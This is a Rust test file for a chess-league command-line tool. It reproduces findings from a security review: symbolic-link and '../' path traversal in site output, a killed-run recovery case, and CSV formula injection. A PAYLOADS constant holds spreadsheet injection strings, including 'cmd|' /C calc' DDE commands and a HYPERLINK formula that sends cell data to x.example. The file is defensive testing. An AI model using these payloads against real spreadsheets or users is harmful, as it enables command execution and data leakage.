//! Issue 16, hardening: each failure a hostile-input and fault review found,
//! reproduced through the `league` binary.

use crate::util::TestLeague;

/// Item 1: a folder of the site replaced by a symbolic link to a folder
/// elsewhere made `league site` overwrite the file there; a planted marker
/// listing a file reached through a link made it delete it.
#[cfg(unix)]
#[test]
fn site_never_writes_or_removes_through_a_link_under_out() {
    let t = TestLeague::small();
    t.ok(&["site", "--out", "site"]);
    let season = t.path("site/2022-23");
    let page = std::fs::read_dir(&season)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .find(|n| n.ends_with(".html") && n != "index.html")
        .expect("a section page");
    // Elsewhere: a folder holding a file under the page's name.
    std::fs::create_dir(t.path("elsewhere")).unwrap();
    t.write(&format!("elsewhere/{page}"), "precious");
    t.write("elsewhere/index.html", "precious index");
    std::fs::remove_dir_all(&season).unwrap();
    std::os::unix::fs::symlink(t.path("elsewhere"), &season).unwrap();
    let r = t.run(&["site", "--out", "site"]);
    assert!(!r.ok, "{}", r.stdout);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert!(r.stderr.contains("2022-23"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(t.path(&format!("elsewhere/{page}"))).unwrap(),
        "precious"
    );
    assert_eq!(
        std::fs::read_to_string(t.path("elsewhere/index.html")).unwrap(),
        "precious index"
    );
    // A planted marker listing a file outside, one through the link, and a
    // file of the secretary's inside whose contents it does not vouch for.
    std::fs::remove_file(&season).unwrap();
    t.write("site/notes.txt", "mine");
    t.write("outside.txt", "keep");
    t.write(
        "site/.league-site",
        format!(
            "written by league site\n0000000000000000 notes.txt\n0000000000000000 ../outside.txt\n{}\n0000000000000000 2022-23/{page}\n",
            t.path("outside.txt").display()
        ),
    );
    std::os::unix::fs::symlink(t.path("elsewhere"), t.path("site/2022-23")).unwrap();
    let r = t.run(&["site", "--out", "site"]);
    assert!(!r.ok);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    std::fs::remove_file(t.path("site/2022-23")).unwrap();
    t.ok(&["site", "--out", "site"]);
    assert_eq!(
        std::fs::read_to_string(t.path("outside.txt")).unwrap(),
        "keep"
    );
    assert_eq!(
        std::fs::read_to_string(t.path("site/notes.txt")).unwrap(),
        "mine"
    );
    assert_eq!(
        std::fs::read_to_string(t.path(&format!("elsewhere/{page}"))).unwrap(),
        "precious"
    );
    assert!(t.path(&format!("site/2022-23/{page}")).is_file());
    assert!(!t.path("site/.league-staging").exists());
}

/// Item 1: a site killed while it was being written (a staging folder left
/// behind, no marker yet) is written by the next run, not refused.
#[test]
fn site_after_a_killed_first_run_is_written_not_refused() {
    let t = TestLeague::small();
    std::fs::create_dir_all(t.path("site/.league-staging/2022-23")).unwrap();
    t.write("site/.league-staging/2022-23/index.html", "<p>half");
    t.ok(&["site", "--out", "site"]);
    assert!(t.path("site/index.html").is_file());
    assert!(!t.path("site/.league-staging").exists());
}

const EV: [&str; 4] = ["--event", "Winter Swiss", "--section", "1600+"];

fn with_ev<'a>(head: &[&'a str]) -> Vec<&'a str> {
    head.iter().chain(EV.iter()).copied().collect()
}

/// The formula payloads of item 2, as players' names; those a name
/// argument can no longer hold (a tab, a carriage return) were stored
/// before the rule.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// A league whose 1600+ section's six players carry the payloads as names,
/// with round 1 recorded.
fn formula_league() -> TestLeague {
    let t = TestLeague::small();
    t.write(
        "r1.csv",
        "board,white,black,result\n1,Alice,Bob,1-0\n2,Carol,Dan,½-½\n3,Eve,Frank,0-1\n",
    );
    let mut a = with_ev(&["round", "record"]);
    a.extend(["--round", "1", "r1.csv"]);
    t.ok(&a);
    let conn = t.conn();
    for (old, new) in [
        "Alice Smith",
        "Bob Jones",
        "Carol King",
        "Dan Wu",
        "Eve Park",
        "Frank Moss",
    ]
    .iter()
    .zip(PAYLOADS)
    {
        conn.execute("UPDATE player SET name = ?1 WHERE name = ?2", [new, old])
            .unwrap();
    }
    t
}

/// Every CSV a league command writes, by name.
fn every_csv(t: &TestLeague, raw: bool) -> Vec<(&'static str, String)> {
    let mut runs: Vec<(&'static str, Vec<&str>)> = vec![
        ("player list", vec!["player", "list", "--format", "csv"]),
        ("export standings", with_ev(&["export", "standings"])),
        (
            "export games",
            vec!["export", "games", "--event", "Winter Swiss"],
        ),
        ("standings", with_ev(&["standings", "--format", "csv"])),
        ("crosstable", with_ev(&["crosstable", "--format", "csv"])),
        (
            "sql",
            vec![
                "sql",
                "SELECT name FROM player ORDER BY name",
                "--format",
                "csv",
            ],
        ),
    ];
    runs.iter_mut()
        .map(|(what, args)| {
            if raw {
                args.push("--raw");
            }
            (*what, t.ok(args))
        })
        .collect()
}

/// Item 2: a name beginning with =, +, -, @, a tab or a carriage return was
/// written verbatim into every CSV, where a spreadsheet runs it.
#[test]
fn csv_output_never_starts_a_cell_with_a_formula() {
    let t = formula_league();
    for (what, csv) in every_csv(&t, false) {
        let cells: Vec<String> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        for payload in PAYLOADS {
            // Standings and the crosstable use the name as written.
            assert!(
                cells.iter().any(|c| *c == format!("'{payload}")),
                "{what}: no '{payload:?} in\n{csv}"
            );
            assert!(
                !cells.iter().any(|c| c == payload),
                "{what}: raw {payload:?}"
            );
        }
        for c in &cells {
            let risky = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let number = c.trim_start_matches(['-', '+']).parse::<f64>().is_ok();
            assert!(
                !risky || number,
                "{what}: cell {c:?} would run in a spreadsheet"
            );
        }
    }
    // --raw: exactly as stored.
    for (what, csv) in every_csv(&t, true) {
        assert!(csv.contains("@SUM(1+9)"), "{what}");
        assert!(
            !csv.contains("'@SUM"),
            "{what}: --raw still prefixed\n{csv}"
        );
    }
}

/// Item 3: `league demo` replaced a database that began as the demo and
/// then had real records added, keeping no copy.
#[test]
fn demo_keeps_a_demo_file_that_was_changed_since() {
    let t = TestLeague::new();
    t.ok(&["demo"]);
    // Untouched: replaced.
    t.ok(&["demo"]);
    let db = t.path("demo.db");
    let added = super::league(&db, &["player", "add", "Real Member", "--rating", "1500"])
        .output()
        .unwrap();
    assert!(
        added.status.success(),
        "{}",
        String::from_utf8_lossy(&added.stderr)
    );
    let before = crate::util::snapshot(&db);
    let r = t.run(&["demo"]);
    assert!(!r.ok, "{}", r.stdout);
    assert!(r.stderr.contains("changed since"), "{}", r.stderr);
    assert!(r.stderr.contains("demo.db"), "{}", r.stderr);
    assert_eq!(before, crate::util::snapshot(&db));
    assert!(crate::util::snapshot(&db)
        .iter()
        .any(|row| row.contains("Real Member")));
}
